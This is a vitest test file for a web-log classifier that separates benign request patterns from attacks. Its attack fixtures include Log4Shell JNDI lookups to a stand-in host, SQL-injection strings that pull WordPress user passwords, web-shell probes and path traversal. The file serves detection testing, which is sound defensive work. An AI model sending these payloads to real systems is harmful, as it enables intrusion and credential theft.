import { describe, expect, it } from 'vitest';
import { judge, verdictOn } from './judged.ts';
import { reader, type Visit } from './log-lines.ts';

const foe = '203.0.113.9';
const friend = '192.0.2.50';
const often = { times: 12, every: 20 } as const;
const asks = (target: Visit['target'], more: Partial<Visit> = {}): Visit => ({ address: friend, target, ...often, ...more });
const tries = (target: Visit['target'], more: Partial<Visit> = {}): Visit => ({ address: foe, target, ...often, ...more });
const shell = (n: number): string => `/wso${String(n)}.php`;

/** What an attacker could put on to be excused, and what honest programs do that looks like an attack: both were found by trying. */
describe('never malicious', () => {
  it.each<[string, readonly Visit[]]>([
    ['a text of several lines in an order', [asks('/order?note=Small%3A%202%0D%0AX-Large%3A%203')]],
    ['a calendar’s entry', [asks('/add-to-calendar?details=Meeting%0ALocation%3A%20https%3A%2F%2Fmeet.example')]],
    [
      'an office that types the password of a post, answered with nothing',
      [...reader(friend), asks('/wp-login.php?action=postpass', { method: 'POST', size: 20, referer: 'https://alice.example/a' })],
    ],
    [
      'pages that report to a plugin’s program among files',
      [...reader(friend), asks('/wp-content/uploads/stat/ajax.php', { method: 'POST', referer: 'https://alice.example/' })],
    ],
    ['a planned task of the owner’s elsewhere', [asks('/wp-content/uploads/import/run.php', { method: 'POST', agent: 'curl/8.5.0' })]],
    ['an app whose token ran out', [asks((n) => `/api/item.php?id=${String(n)}`, { method: 'PUT', status: 403, agent: 'okhttp/4.12' })]],
    ['a session of Liferay that is over', [asks('/api/jsonws/invoke', { method: 'POST', status: 403 })]],
    ['a developer’s own server', [asks((n) => `/@fs/root/app/src/part-${String(n)}.ts`)]],
  ])('%s', async (_, visits) => {
    expect(verdictOn(await judge(visits), friend)).not.toBe('malicious');
  });
});

describe('no excuse', () => {
  it.each<[string, readonly Visit[]]>([
    ['a program that ends like a beacon', [tries('/index.php/collect?page=$%7Bjndi:ldap://x.example/a%7D')]],
    ['a beacon that is told a lookup', [tries('/beacon?url=$%7Bjndi:ldap://x.example/a%7D', { status: 404 })]],
    ...['%27 union select user_login,user_pass from wp_users where x=%27', '=%27 or 1=1 or id=%27', 'x in %27 and sleep(5) or x=%27'].map(
      (value): [string, readonly Visit[]] => [
        `an operator before the quote: ${value}`,
        [tries((n) => `/?id=,${value.replaceAll(' ', '+')}&n=${String(n)}`, { times: 30 })],
      ],
    ),
    ['a method of WebDAV', [tries(shell, { method: 'PROPFIND', status: 404, times: 200, every: 2 }), tries('/style.css', { times: 5 })]],
    [
      'a style sheet, as often as scripts',
      [tries(shell, { status: 500, times: 200, every: 2 }), tries('/style.css', { times: 210, every: 2, agent: 'curl/8.5.0' })],
    ],
    [
      'a folder that leads back',
      [70].flatMap((times) => [
        tries('/intern/', { times, status: 401, user: (n) => `u${String(n)}` }),
        tries('/intern/../', { times, user: (n) => `u${String(n)}` }),
      ]),
    ],
    ['an aside that shows the form', [tries('/wp-login.php?action=postpass', { method: 'POST', times: 60 })]],
  ])('%s', async (_, visits) => {
    expect(['malicious', 'suspicious']).toContain(verdictOn(await judge(visits), foe));
  });

  it('an address of a fetcher without a name, where the log has names', async () => {
    const rented = '4.151.71.177';
    const report = await judge([
      { address: rented, target: shell, status: 404, times: 60, every: 2, agent: '-' },
      ...reader('198.51.100.77'),
    ]);
    expect(verdictOn(report, rented)).toBe('malicious');
  });
});
